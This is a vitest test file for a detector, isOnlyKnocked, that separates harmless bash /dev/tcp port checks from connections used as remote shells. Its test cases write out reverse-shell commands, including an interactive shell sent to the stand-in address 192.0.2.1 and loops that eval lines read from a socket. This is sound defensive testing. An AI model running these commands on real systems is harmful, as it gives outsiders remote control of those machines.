import { describe, expect, it } from 'vitest'
import { isOnlyKnocked } from './is-only-knocked.ts'

const opening = 'exec 3<>/dev/tcp/127.0.0.1/8080'

// WUN-103
describe('a connection that nobody uses', () => {
  it.each([
    ['alone', opening],
    ['closed again', `${opening}; exec 3>&-; exec 3<&-`],
    ['its noise is thrown away', `if bash -c "${opening}" >/dev/null 2>&1; then echo up; fi`],
  ])('is a knock: %s', (_, text) => {
    expect(isOnlyKnocked(text, opening)).toBe(true)
  })

  it.each([
    ['is the input of a shell', `${opening}; sh <&3 >&3 2>&3`],
    ['is read line by line', `${opening}; while read -r line <&3; do $line; done`],
    ['is read by its number', `${opening}; while read -u 3 line; do eval "$line"; done`],
    ['is read as a file', `${opening}; bash /dev/fd/3`],
    ['is used by a name', `${opening}; n=3; bash <&"$n"`],
  ])('is none when it %s', (_, text) => {
    expect(isOnlyKnocked(text, opening)).toBe(false)
  })

  it('says nothing of other ways to open a shell', () => {
    expect(isOnlyKnocked('sh -i >/dev/tcp/192.0.2.1/9', 'sh -i >/dev/tcp/192.0.2.1/9')).toBe(false)
  })
})
